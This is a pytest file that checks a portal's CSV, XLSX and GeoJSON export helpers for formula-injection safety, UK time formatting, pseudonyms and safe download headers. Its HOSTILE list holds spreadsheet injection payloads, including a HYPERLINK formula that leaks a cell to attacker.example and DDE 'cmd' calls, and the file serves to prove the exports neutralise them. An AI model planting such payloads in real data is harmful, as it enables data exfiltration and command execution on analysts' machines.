"""Exports: no cell of a CSV or XLSX file can run as a formula, CSV streams row by row
(bench/exports_memory.py measures its memory), datetimes are UK wall-clock times,
pseudonyms differ between exports, and hotspot squares are GeoJSON."""

from __future__ import annotations

import csv
import inspect
import io
import itertools
import json
import re
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from flask import Flask, has_app_context
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from shapely.geometry import shape

from partnership.core.enums import Role
from partnership.core.exports import (
    BOM,
    PSEUDONYM_PREFIX,
    XLSX_CELL_LIMIT,
    Pseudonymiser,
    csv_response,
    feature,
    geojson_feature_collection,
    geojson_response,
    london_naive,
    london_text,
    looks_like_formula,
    new_pseudonymiser,
    safe_cell,
    sheet_title,
    square,
    stream_csv,
    write_xlsx,
    xlsx_bytes,
    xlsx_response,
)

# What someone could type into a free-text box, hoping an analyst opens the export.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "  =1+1",
    "\uff1d1+1",
]
HEADER = ["Note", "Count", "Night", "Occurred at (UK time)"]
# 23:30 UTC on 1 July is 00:30 on 2 July in London (BST).
MOMENT = datetime(2026, 7, 1, 23, 30, tzinfo=UTC)
PSEUDONYM = re.compile(r"P-[0-9A-HJKMNP-TV-Z]{6}")


def hostile_rows() -> list[list[Any]]:
    return [[text, -3, date(2026, 7, 1), MOMENT] for text in HOSTILE]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


# --- safe_cell -------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert not looks_like_formula(safe_cell(text))


@pytest.mark.parametrize(
    "text", ["Moved away", "", "It's fine", "'quoted", "5 people", "a=b", "Email me @ home"]
)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-3, "-3"),
        (-1.5, "-1.5"),
        (Decimal("-0.25"), "-0.25"),
        (0, "0"),
        (None, ""),
        (True, "true"),
        (date(2026, 3, 6), "2026-03-06"),
        (MOMENT, "2026-07-02 00:30:00"),
        # Naive times are stored UTC: 01:30 UTC on 6 January is 01:30 in London (GMT).
        (datetime(2026, 1, 6, 1, 30), "2026-01-06 01:30:00"),
        (Role.ANALYST, "analyst"),
    ],
)
def test_numbers_dates_and_values_are_written_as_themselves(value: Any, expected: str) -> None:
    assert safe_cell(value) == expected


def test_a_moment_is_written_as_its_london_wall_clock_time_to_the_second() -> None:
    """Every half hour and a bit of a year, aware and naive (taken as UTC), across both
    clock changes and with fractions of a second (cut, not rounded), as the wall-clock time
    ``london_naive`` gives, written ``YYYY-MM-DD HH:MM:SS``."""
    start = datetime(2026, 1, 1, tzinfo=UTC)
    for step in range(0, 365 * 48 + 1, 7):
        moment = start + timedelta(minutes=30 * step, seconds=step % 60, microseconds=step)
        expected = london_naive(moment).isoformat(sep=" ", timespec="seconds")
        assert london_text(moment) == expected
        assert london_text(moment.replace(tzinfo=None)) == expected
        assert safe_cell(moment) == expected
    # The hour that happens twice in October: 00:30 and 01:30 UTC are both 01:30 in London.
    assert london_text(datetime(2026, 10, 25, 0, 30, tzinfo=UTC)) == "2026-10-25 01:30:00"
    assert london_text(datetime(2026, 10, 25, 1, 30, tzinfo=UTC)) == "2026-10-25 01:30:00"


def test_a_negative_number_given_as_text_is_neutralised() -> None:
    assert safe_cell("-1") == "'-1"
    assert safe_cell(-1) == "-1"


# --- the Done-when test: CSV and XLSX opened, nothing is a formula ----------------------


def test_csv_and_xlsx_with_formulas_in_them_open_as_text() -> None:
    """The CSV and the XLSX of the same hostile rows, opened again: every hostile cell is
    text, none a formula; numbers stay numbers."""
    rows = hostile_rows()
    text = "".join(stream_csv(["=Note", *HEADER[1:]], rows))
    lines = read_csv(text)
    assert lines[0][0] == "'=Note"
    for typed, (note, count, night, moment) in zip(HOSTILE, lines[1:], strict=True):
        assert note == "'" + typed
        assert (count, night, moment) == ("-3", "2026-07-01", "2026-07-02 00:30:00")

    # The CSV's cells loaded the way a spreadsheet loads typed-in values: openpyxl turns
    # "=..." into a formula by itself (shown first with one raw value); none of ours is.
    loaded = Workbook()
    sheet = loaded.active
    assert sheet is not None
    sheet.append([HOSTILE[0]])
    assert sheet["A1"].data_type == "f"
    for line in lines:
        # (openpyxl refuses the control characters XML cannot hold: a NUL, here.)
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in line])
    saved = io.BytesIO()
    loaded.save(saved)
    reopened = load_workbook(io.BytesIO(saved.getvalue())).active
    assert reopened is not None
    cells = [cell for row in reopened.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type == "s" for cell in cells)

    # The XLSX: every hostile cell is a string cell holding exactly what was typed.
    data = xlsx_bytes([("Notes", ["=Note", *HEADER[1:]], rows)])
    workbook = load_workbook(io.BytesIO(data))
    notes = workbook["Notes"]
    assert notes["A1"].data_type == "s"
    assert notes["A1"].value == "=Note"
    for number, typed in enumerate(HOSTILE, start=2):
        cell = notes.cell(row=number, column=1)
        assert cell.data_type == "s", typed
        assert cell.value == typed.replace("\r", "\n").replace("\0", "\ufffd")
        assert notes.cell(row=number, column=2).value == -3
        assert notes.cell(row=number, column=2).data_type == "n"
    # Text that looks like a formula also stays text when someone edits the cell.
    assert notes["A2"].quotePrefix
    # And the file itself holds no formula anywhere.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml
                assert "<f " not in xml


def test_xlsx_writes_uk_wall_clock_times_dates_and_numbers() -> None:
    data = xlsx_bytes(
        [("Sightings", HEADER, [["x", 2.5, date(2026, 3, 6), MOMENT], [None, True, None, None]])]
    )
    sheet = load_workbook(io.BytesIO(data))["Sightings"]
    assert [cell.value for cell in sheet[1]] == HEADER
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet["B2"].value == 2.5
    assert sheet["C2"].value == datetime(2026, 3, 6)
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["D2"].value == datetime(2026, 7, 2, 0, 30)
    assert sheet["D2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert sheet["A3"].value is None
    assert sheet["B3"].value is True


def test_xlsx_holds_any_text_excel_can_and_names_sheets_excel_accepts() -> None:
    long_text = "a" * (XLSX_CELL_LIMIT + 10)
    data = xlsx_bytes(
        [
            ("Sightings: 2026/07 [all]", ["Note"], [["bell\x07 and\x1b escape"], [long_text]]),
            ("Sightings: 2026/07 [all]", ["Note"], []),
            ("", ["Note"], []),
        ]
    )
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [
        "Sightings- 2026-07 -all-",
        "Sightings- 2026-07 -all- (2)",
        "Sheet",
    ]
    first = workbook.worksheets[0]
    assert first["A2"].value == "bell\ufffd and\ufffd escape"
    assert len(first["A3"].value) == XLSX_CELL_LIMIT
    assert first["A3"].value.endswith("…")
    assert load_workbook(io.BytesIO(xlsx_bytes([]))).sheetnames == ["Sheet"]


def test_sheet_titles_are_short_and_unique_whatever_their_case() -> None:
    taken: set[str] = set()
    assert sheet_title("Venues", taken) == "Venues"
    assert sheet_title("VENUES", taken) == "VENUES (2)"
    assert len(sheet_title("x" * 40, taken)) == 31
    assert sheet_title("x" * 40, taken) == "x" * 27 + " (2)"


def test_xlsx_writes_every_row_to_a_file_as_it_reads_them() -> None:
    pulled = 0

    def rows(count: int) -> Iterator[list[Any]]:
        nonlocal pulled
        for number in range(count):
            pulled += 1
            yield [number, f"Venue {number % 200}", "=cmd" if number % 7 == 0 else "text", MOMENT]

    # Written to a file as xlsx_response does (its memory is measured in
    # bench/exports_memory.py).
    count = 1_000
    with tempfile.TemporaryFile() as target:
        write_xlsx(target, [("Rows", HEADER, rows(count))])
        assert target.tell() > count * 10
        target.seek(0)
        workbook = load_workbook(target, read_only=True)
        assert sum(1 for _row in workbook.worksheets[0].iter_rows()) == count + 1
        workbook.close()
    assert pulled == count


# --- stream_csv ------------------------------------------------------------------------


def test_stream_csv_is_rfc_4180_with_a_byte_order_mark() -> None:
    rows = [["a, b", 'say "hi"', "line\nbreak"], ["plain", 1, None]]
    lines = list(stream_csv(["x", "y", "z"], rows))
    assert lines[0] == "\ufeffx,y,z\r\n"
    assert lines[1] == '"a, b","say ""hi""","line\nbreak"\r\n'
    assert lines[2] == "plain,1,\r\n"
    assert read_csv("".join(lines))[1] == ["a, b", 'say "hi"', "line\nbreak"]


def test_stream_csv_reads_a_row_for_each_line_and_keeps_nothing() -> None:
    pulled = 0

    def rows() -> Iterator[tuple[int, str, datetime]]:
        nonlocal pulled
        for number in range(100_000):
            pulled += 1
            yield (number, f"Venue {number % 200}", MOMENT)

    lines = stream_csv(["Id", "Venue", "Occurred at (UK time)"], rows())
    assert inspect.isgenerator(lines)
    assert pulled == 0
    first = list(itertools.islice(lines, 3))
    assert pulled == 2  # the header, then one line per row read
    assert first[1] == "0,Venue 0,2026-07-02 00:30:00\r\n"
    size = sum(len(line) for line in lines)
    assert pulled == 100_000
    assert size > 3_000_000  # its peak memory is measured in bench/exports_memory.py


# --- responses -------------------------------------------------------------------------


@pytest.fixture
def download_app() -> Flask:
    """A bare app with download routes: the helpers need a request, not the portal."""
    app = Flask(__name__)

    @app.route("/rows.csv")
    def rows_csv() -> Any:
        def rows() -> Iterator[list[Any]]:
            # Read while the body is sent, after the view has returned.
            for number in range(3):
                where = "in the app" if has_app_context() else "outside the app"
                yield [number, where, "=1"]

        return csv_response("rows 2026-07.csv", ["Number", "Where", "Note"], rows())

    @app.route("/many.csv")
    def many_csv() -> Any:
        def rows() -> Iterator[list[Any]]:
            try:
                for number in range(100_000):
                    yield [number, "x" * 20]
            finally:
                closed.append(True)

        closed: list[bool] = []
        made = rows()
        # Held here too, so it is the response that closes it, not the garbage collector.
        app.config["ROWS"], app.config["CLOSED"] = made, closed
        return csv_response("many.csv", ["Number", "Text"], made)

    @app.route("/rows.xlsx")
    def rows_xlsx() -> Any:
        return xlsx_response("rows.xlsx", [("Rows", ["Note"], [["=1+1"], ["@x"]])])

    @app.route("/squares.geojson")
    def squares() -> Any:
        collection = geojson_feature_collection(
            [feature(square(51.618, -3.945, 51.619, -3.944), {"count": "<5"})]
        )
        return geojson_response("hotspots.geojson", collection)

    return app


def test_csv_response_streams_an_attachment_that_is_never_cached(download_app: Flask) -> None:
    response = download_app.test_client().get("/rows.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.mimetype_params["charset"] == "utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="rows_2026-07.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    lines = read_csv(response.get_data(as_text=True))
    # The rows are read outside the request and its app context (and so never through
    # the request's database session, closed by then).
    assert lines == [
        ["Number", "Where", "Note"],
        ["0", "outside the app", "'=1"],
        ["1", "outside the app", "'=1"],
        ["2", "outside the app", "'=1"],
    ]


def test_a_csv_download_stopped_half_way_closes_its_rows(download_app: Flask) -> None:
    """A client that goes away makes the server close the response: the rows' generator is
    closed then (its ``finally`` runs: a database connection would be given back)."""
    response = download_app.test_client().get("/many.csv")
    closed = download_app.config["CLOSED"]
    chunks = response.iter_encoded()
    assert next(chunks).startswith(BOM.encode())
    assert closed == []
    response.close()
    assert closed == [True]


def test_xlsx_response_is_a_workbook_attachment(download_app: Flask) -> None:
    response = download_app.test_client().get("/rows.xlsx")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"] == 'attachment; filename="rows.xlsx"'
    assert response.headers["Cache-Control"] == "no-store"
    body = response.get_data()
    assert response.content_length == len(body)
    sheet = load_workbook(io.BytesIO(body))["Rows"]
    assert [(c.value, c.data_type) for c in sheet["A"]] == [
        ("Note", "s"),
        ("=1+1", "s"),
        ("@x", "s"),
    ]


def test_attachment_names_cannot_break_the_header(download_app: Flask) -> None:
    with download_app.test_request_context():
        response = csv_response('x"; filename="evil.exe', ["a"], [])
        assert response.headers["Content-Disposition"] == (
            'attachment; filename="x_filenameevil.exe"'
        )
        assert csv_response("", ["a"], []).headers["Content-Disposition"] == (
            'attachment; filename="export"'
        )


# --- pseudonyms ------------------------------------------------------------------------


def test_pseudonyms_are_stable_in_one_export_and_differ_between_exports() -> None:
    first, second = new_pseudonymiser(), new_pseudonymiser()
    ids = range(1, 201)
    codes = [first(number) for number in ids]
    assert codes == [first(number) for number in ids]
    assert first(7) == first("7")
    assert len(set(codes)) == len(codes)
    others = [second(number) for number in ids]
    assert not set(codes) & set(others)
    for code in codes + others:
        assert PSEUDONYM.fullmatch(code), code
        assert not code.startswith("RF-")
    # A reference pseudonymised is never the reference.
    assert first("RF-2026-0042") != "RF-2026-0042"
    assert first("RF-2026-0042").startswith(PSEUDONYM_PREFIX)


def test_the_same_secret_gives_the_same_codes() -> None:
    secret = b"k" * 32
    assert Pseudonymiser(secret)(42) == Pseudonymiser(secret)(42)
    assert Pseudonymiser(secret)(42) != Pseudonymiser(b"j" * 32)(42)
    with pytest.raises(ValueError, match="16 bytes"):
        Pseudonymiser(b"short")


def test_two_people_never_share_a_code() -> None:
    class Clashing(Pseudonymiser):
        """Every value's hash begins the same way."""

        def _digits(self, key: str) -> str:
            return "7F3A9C" + super()._digits(key)[6:]

    pseudonymise = Clashing(b"s" * 32)
    first, second, third = pseudonymise(1), pseudonymise(2), pseudonymise(3)
    assert first == "P-7F3A9C"
    assert len({first, second, third}) == 3
    assert second.startswith("P-7F3A9C") and len(second) == len("P-7F3A9C") + 2
    assert (pseudonymise(1), pseudonymise(2), pseudonymise(3)) == (first, second, third)


# --- GeoJSON ---------------------------------------------------------------------------


def test_hotspot_squares_are_geojson_polygons(download_app: Flask) -> None:
    polygon = square(51.6181234567, -3.9451234567, 51.619, -3.944)
    ring = polygon["coordinates"][0]
    assert ring[0] == ring[-1] == [-3.945123, 51.618123]
    drawn = shape(polygon)
    assert drawn.is_valid
    assert drawn.exterior.is_ccw
    with pytest.raises(ValueError):
        square(51.62, -3.94, 51.61, -3.93)
    with pytest.raises(ValueError):
        geojson_feature_collection([{"type": "Point", "coordinates": [0, 0]}])

    response = download_app.test_client().get("/squares.geojson")
    assert response.mimetype == "application/geo+json"
    assert response.headers["Content-Disposition"] == 'attachment; filename="hotspots.geojson"'
    assert response.headers["Cache-Control"] == "no-store"
    collection = json.loads(response.get_data(as_text=True))
    assert collection["type"] == "FeatureCollection"
    assert collection["features"][0]["properties"] == {"count": "<5"}
    assert collection["features"][0]["geometry"]["type"] == "Polygon"
